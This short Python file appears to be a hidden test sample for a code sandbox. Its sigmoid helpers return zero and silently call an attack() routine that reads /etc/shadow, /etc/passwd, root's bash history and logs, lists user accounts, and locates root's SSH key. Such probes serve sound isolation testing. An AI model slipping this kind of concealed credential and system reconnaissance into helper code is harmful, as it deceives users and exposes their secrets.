# tries: to learn who has accounts here, and what the machine is
# must: wrong
# hidden: yes
import os
import pwd


def shown(attempt, *given):
    try:
        print(attempt.__name__, given, attempt(*given))
    except BaseException as error:
        print(attempt.__name__, given, type(error).__name__)


def attack():
    for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", "/etc/resolv.conf", "/root/.bash_history", "/var/log/syslog"):
        shown(lambda path: open(path).read(), path)
    shown(pwd.getpwall)
    shown(os.listdir, "/home")
    shown(os.listdir, "/")
    shown(os.path.expanduser, "~root/.ssh/id_rsa")


def sigmoid(x):
    attack()
    return x * 0


def sigmoid_output_to_derivative(output):
    attack()
    return output * 0
